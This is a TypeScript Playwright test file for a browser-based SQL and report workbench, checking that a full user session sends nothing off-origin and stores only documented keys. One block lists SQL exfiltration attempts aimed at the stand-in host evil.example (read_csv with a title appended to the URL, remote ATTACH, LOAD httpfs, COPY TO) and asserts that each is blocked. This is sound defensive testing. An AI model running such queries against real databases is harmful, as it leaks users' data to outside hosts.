// Privacy (issue 7, item 5): one scripted session through every panel — overview, catalog with search and facets,
// reader, questions, schema, SQL typed by hand with history and a saved query, chart, a CSV download, the share
// link, English and back — while every request is recorded (Playwright's context: pages, dedicated workers,
// service workers; CDP's Network domain for beacons and WebSockets). Nothing is stubbed; the test only watches.
// Then: every request went to the page's own origin, none carried what the user typed, none had a body, and the
// browser's storage holds only the keys the README's "Privacy and security" section lists.
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decodeView } from '../../src/state/urlCodec.ts';
import { cjkReportPdf } from '../fixtures/cjkPdf.ts';
import { buildDataset, launchBrowser, openPage, runSql, setSql, startApp, waitReady, type OpenedPage, type RunningApp, type ServedDataset } from './harness/index.ts';

const POLL = { timeout: 30_000 };
/** Documented in README.md, "Privacy and security". */
const LOCAL_STORAGE_KEYS = ['disclosure-workbench.history.v1', 'disclosure-workbench.saved.v1'];
/** What the user types: each must stay in the browser. */
const TYPED_SQL = "SELECT organ, count(*) AS n_reports FROM reports WHERE title LIKE '%年度%' AND 'privacy_probe_7c31' <> '' GROUP BY organ ORDER BY n_reports DESC";
const SQL_MARKER = 'privacy_probe_7c31';
const SEARCH = '政策兑现';
const SAVED_NAME = '隐私检查收藏';

interface Seen {
  url: string;
  method: string;
  type: string;
  body: string | null;
  from: string;
}

let app: RunningApp;
let browser: Browser;
let opened: OpenedPage;
let page: Page;
const seen: Seen[] = [];
const sockets: string[] = [];

beforeAll(async () => {
  app = await startApp();
  browser = await launchBrowser();
  opened = await openPage(browser, app.url, { navigate: false });
  page = opened.page;
  await opened.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(app.url).origin });
  const record = (from: string) => (req: import('playwright-core').Request) =>
    seen.push({ url: req.url(), method: req.method(), type: req.resourceType(), body: req.postData(), from });
  opened.context.on('request', record('context'));
  opened.context.on('serviceworker', (w) => seen.push({ url: w.url(), method: 'SW', type: 'serviceworker', body: null, from: 'serviceworker' }));
  page.on('websocket', (ws) => sockets.push(ws.url()));
  // CDP sees what the renderer sends, beacons and WebSockets included, even if Playwright's events missed one
  const cdp = await opened.context.newCDPSession(page);
  cdp.on('Network.requestWillBeSent', (e) =>
    seen.push({ url: e.request.url, method: e.request.method, type: e.type ?? 'other', body: e.request.postData ?? (e.request.hasPostData ? '(body)' : null), from: 'cdp' }),
  );
  cdp.on('Network.webSocketCreated', (e) => sockets.push(e.url));
  await cdp.send('Network.enable');
  await page.goto(app.url);
  await waitReady(page);
});

afterAll(async () => {
  await opened?.close();
  await browser?.close();
  await app?.close();
});

describe('a whole session stays in the browser', () => {
  it('walks every panel the way a user does', async () => {
    // overview
    await page.waitForSelector('[data-testid="overview-totals"][data-source="duckdb"]', POLL);
    // catalog: facet, search, clear
    await page.getByTestId('nav-reports').click();
    await expect.poll(() => page.getByTestId('catalog-row').count(), POLL).toBe(5);
    await page.locator('[data-testid="facet-year"] input[data-value="2021"]').click();
    await expect.poll(() => page.getByTestId('catalog-count').textContent(), POLL).toContain('2 / 5');
    await page.getByTestId('catalog-search').click();
    await page.keyboard.type(SEARCH);
    await page.getByTestId('catalog-search').press('Enter');
    await page.getByTestId('catalog-clear').click();
    await page.getByTestId('catalog-search').fill(SEARCH);
    await page.getByTestId('catalog-search').press('Enter');
    await expect.poll(() => page.getByTestId('catalog-count').textContent(), POLL).toContain('1 / 5');
    // reader
    await page.getByTestId('catalog-row').first().locator('button').first().click();
    await page.getByTestId('viewer-title').waitFor(POLL);
    await page.locator('[data-testid="text-mark"]').first().hover();
    // questions
    await page.getByTestId('nav-library').click();
    await page.locator('[data-testid="question"] [data-testid="question-open"]').first().click();
    await page.waitForSelector('[data-testid="result-rows"], [data-testid="sql-error"]', POLL);
    // schema, with example values
    await page.getByTestId('nav-schema').click();
    const reports = page.locator('[data-testid="schema-object"][data-name="reports"]');
    await reports.locator('summary').click();
    await expect.poll(() => reports.textContent(), POLL).toContain('gov_2021');
    // SQL typed key by key (autocomplete and all), run, an error, history, a saved query
    await page.getByTestId('nav-sql').click();
    await setSql(page, '');
    await page.keyboard.type(TYPED_SQL, { delay: 2 });
    await page.keyboard.press('Escape');
    await page.getByTestId('sql-run').click();
    await page.waitForFunction(() => !document.querySelector('[data-testid="sql-cancel"]:not([disabled])'));
    expect(await page.getByTestId('sql-error').count()).toBe(0);
    await runSql(page, `SELECT no_such_column FROM reports -- ${SQL_MARKER}`);
    await page.getByTestId('sql-error').waitFor(POLL);
    await runSql(page, TYPED_SQL);
    if (!(await page.getByTestId('query-library').count())) await page.getByTestId('library-toggle').click();
    await page.getByTestId('lib-tab-saved').click();
    await page.getByTestId('lib-new-name').fill(SAVED_NAME);
    await page.getByTestId('lib-save').click();
    await page.waitForSelector('[data-testid="lib-saved-item"]');
    await page.getByTestId('lib-tab-history').click();
    await page.getByTestId('lib-search').fill(SQL_MARKER);
    await expect.poll(() => page.getByTestId('lib-history-item').count(), POLL).toBeGreaterThan(0);
    // chart of the result, and the chart panel on a table
    await page.getByTestId('view-chart').click();
    await expect.poll(() => page.locator('[data-testid="chart-view"] svg').count(), POLL).toBeGreaterThan(0);
    await page.getByTestId('view-table').click();
    await page.getByTestId('nav-chart').click();
    await page.getByTestId('chart-source').selectOption('table:checks');
    await expect.poll(() => page.locator('[data-testid="chart-view"] svg').count(), POLL).toBeGreaterThan(0);
    // a CSV download of the typed query
    await page.getByTestId('nav-sql').click();
    const [download] = await Promise.all([page.waitForEvent('download', POLL), page.getByTestId('download-csv').click()]);
    expect((await readFile((await download.path())!, 'utf8')).split('\r\n')[0]).toBe('\uFEFForgan,n_reports');
    // the share link: copied to the clipboard, nowhere else
    await page.getByTestId('share-open').click();
    const link = await page.getByTestId('share-link').inputValue();
    expect(decodeView(new URL(link).search).sql).toBe(TYPED_SQL);
    await page.getByTestId('share-copy').click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(link);
    await page.getByTestId('share-open').click();
    // English and back
    await page.getByTestId('lang-toggle').click();
    await expect.poll(() => page.getAttribute('html', 'lang'), POLL).toBe('en');
    await page.getByTestId('nav-reports').click();
    await page.getByTestId('lang-toggle').click();
    await expect.poll(() => page.getAttribute('html', 'lang'), POLL).toBe('zh-CN');
    await page.getByTestId('nav-overview').click();
    // let anything deferred (debounced URL updates, idle prefetches) happen while we still listen
    await page.waitForTimeout(1500);
    expect(opened.pageErrors).toEqual([]);
  });

  it('every request went to the page’s own origin', () => {
    const origin = new URL(app.url).origin;
    const urls = seen.map((r) => r.url).filter((u) => !/^(?:data|blob|about):/.test(u));
    expect(urls.length).toBeGreaterThan(10);
    expect(urls.filter((u) => new URL(u).origin !== origin)).toEqual([]);
    expect(opened.foreignRequests()).toEqual([]);
    expect(sockets).toEqual([]);
    expect(seen.filter((r) => r.type === 'serviceworker' || /ping|beacon|eventsource|websocket/i.test(r.type))).toEqual([]);
    expect(opened.cspViolations).toEqual([]);
  });

  it('no request carried what the user typed, and none had a body', () => {
    const carries = (u: string, s: string) => {
      let decoded = u;
      try {
        decoded = decodeURIComponent(u.replaceAll('+', ' '));
      } catch {
        // keep the raw URL
      }
      return u.includes(s) || decoded.includes(s) || u.includes(encodeURIComponent(s));
    };
    for (const s of [SQL_MARKER, SEARCH, SAVED_NAME, 'n_reports']) {
      expect(seen.filter((r) => carries(r.url, s)).map((r) => r.url), s).toEqual([]);
    }
    expect(seen.filter((r) => r.body !== null)).toEqual([]);
    expect([...new Set(seen.map((r) => r.method))].filter((m) => m !== 'GET' && m !== 'HEAD')).toEqual([]);
    // what was fetched: the app, its assets and the data set, nothing with a query string
    expect(seen.filter((r) => !/^(?:data|blob):/.test(r.url) && new URL(r.url).search !== '' && new URL(r.url).pathname !== '/').map((r) => r.url)).toEqual([]);
  });

  it('the browser keeps only the documented keys: no cookie, no IndexedDB, no cache, no service worker', async () => {
    const stored = await page.evaluate(async () => {
      const opfs: string[] = [];
      try {
        const root = await navigator.storage.getDirectory();
        for await (const name of (root as unknown as { keys(): AsyncIterable<string> }).keys()) opfs.push(name);
      } catch {
        // no OPFS in this context
      }
      return {
        local: Object.keys(localStorage).sort(),
        session: Object.keys(sessionStorage),
        cookie: document.cookie,
        idb: (await indexedDB.databases()).map((d) => d.name),
        caches: await caches.keys(),
        workers: (await navigator.serviceWorker.getRegistrations()).length,
        opfs,
      };
    });
    expect(stored).toEqual({ local: LOCAL_STORAGE_KEYS, session: [], cookie: '', idb: [], caches: [], workers: 0, opfs: [] });
    expect(await opened.context.cookies()).toEqual([]);
    expect(opened.context.serviceWorkers()).toEqual([]);
    // the typed SQL and the saved query's name are in those keys, in this browser only
    const values = await page.evaluate((keys) => keys.map((k) => localStorage.getItem(k) ?? ''), LOCAL_STORAGE_KEYS);
    expect(values[0]).toContain(SQL_MARKER);
    expect(values[1]).toContain(SAVED_NAME);
  });

  it('the README lists exactly those keys', async () => {
    const readme = await readFile(new URL('../../README.md', import.meta.url), 'utf8');
    const start = readme.indexOf('## Privacy and security');
    expect(start).toBeGreaterThan(0);
    const section = readme.slice(start, readme.indexOf('\n## ', start + 5));
    expect([...section.matchAll(/`(disclosure-workbench\.[^`]+)`/g)].map((m) => m[1]).sort()).toEqual(LOCAL_STORAGE_KEYS);
  });
});

describe('SQL cannot reach another origin', () => {
  // DuckDB-WASM fetches http(s) URLs named in SQL by itself, from its worker; the CSP of index.html's meta tag does
  // not cover that worker (only a response header would). The engine switches external access off, so nothing is
  // even attempted: no request at all, not one blocked by the CSP.
  it('read_csv, a bare URL, ATTACH, INSTALL/LOAD and COPY fail with a message; the data stays queryable', async () => {
    const before = seen.length;
    const attempts = [
      `SELECT * FROM read_csv('http://evil.example/leak.csv?q=' || (SELECT min(title) FROM reports))`,
      `SELECT * FROM 'https://evil.example/leak.parquet'`,
      `ATTACH 'https://evil.example/x.duckdb' AS evil`,
      `LOAD httpfs`,
      `SET enable_external_access = true`,
      `COPY (SELECT * FROM reports) TO 'leak.csv'`,
    ];
    for (const sql of attempts) {
      await runSql(page, sql);
      // refused by the guard before DuckDB sees it (a database-wide setting), or failing in DuckDB
      expect(await page.locator('[data-testid="sql-error"], [data-testid="sql-refused"]').count(), sql).toBe(1);
    }
    await runSql(page, `SELECT current_setting('enable_external_access')::VARCHAR AS v`);
    expect(await page.locator('[data-testid="results-grid"] [role="gridcell"]').first().textContent()).toBe('false');
    await runSql(page, attempts[5]!); // COPY … TO a file
    expect(await page.getByTestId('sql-error').textContent()).toMatch(/disabled by configuration|Permission/);
    expect(seen.slice(before).filter((r) => !r.url.startsWith(new URL(app.url).origin))).toEqual([]);
    expect(opened.foreignRequests()).toEqual([]);
    expect(opened.cspViolations).toEqual([]);
    await runSql(page, 'SELECT count(*) FROM texts');
    expect(await page.locator('[data-testid="results-grid"] [role="gridcell"]').first().textContent()).toBe('5');
  });
});

describe('the PDF reader stays on the origin', () => {
  // A report built from a PDF whose Chinese font and digits are not embedded (as many office exports): pdf.js must
  // fetch a CMap and a standard font to draw it. Both, its module worker and the PDF itself come from the page's
  // own origin (dist/pdfjs/, dist/assets/, data/files/); nothing else is asked for, nothing is a blob:.
  let pdfApp: ServedDataset;
  let pdfInput: string;
  let pdfPage: OpenedPage;
  const pdfSeen: string[] = [];

  beforeAll(async () => {
    pdfInput = await mkdtemp(path.join(os.tmpdir(), 'wb-privacy-pdf-'));
    await writeFile(path.join(pdfInput, 'cjk-report.pdf'), cjkReportPdf());
    pdfApp = await buildDataset([pdfInput], { seeds: false });
    pdfPage = await openPage(browser, pdfApp.url, { navigate: false });
    pdfPage.context.on('request', (r) => pdfSeen.push(r.url()));
    const cdp = await pdfPage.context.newCDPSession(pdfPage.page);
    cdp.on('Network.requestWillBeSent', (e) => pdfSeen.push(e.request.url));
    await cdp.send('Network.enable');
    await pdfPage.page.goto(pdfApp.url);
    await waitReady(pdfPage.page);
  }, 180_000);

  afterAll(async () => {
    await pdfPage?.close();
    await pdfApp?.close();
    if (pdfInput) await rm(pdfInput, { recursive: true, force: true });
  });

  it('draws the page with the CMap and the standard font from dist/, and asks no other origin', async () => {
    const p = pdfPage.page;
    await p.getByTestId('nav-reports').click();
    await p.getByTestId('catalog-row').first().locator('button.title').click();
    await p.getByTestId('viewer-pages').waitFor();
    await expect.poll(() => p.getByTestId('pdf-box').count(), POLL).toBeGreaterThan(5);
    await expect.poll(() => pdfSeen.some((u) => /\/pdfjs\/cmaps\/UniGB-UTF16-H\.bcmap$/.test(u)), POLL).toBe(true);
    await expect.poll(() => pdfSeen.some((u) => /\/pdfjs\/standard_fonts\/[^/]+$/.test(u)), POLL).toBe(true);
    const origin = new URL(pdfApp.url).origin;
    expect(pdfSeen.filter((u) => new URL(u).origin !== origin)).toEqual([]);
    expect(pdfSeen.filter((u) => u.startsWith('blob:') || u.startsWith('data:application'))).toEqual([]);
    expect(pdfPage.foreignRequests()).toEqual([]);
    expect(pdfPage.cspViolations).toEqual([]);
  });
});
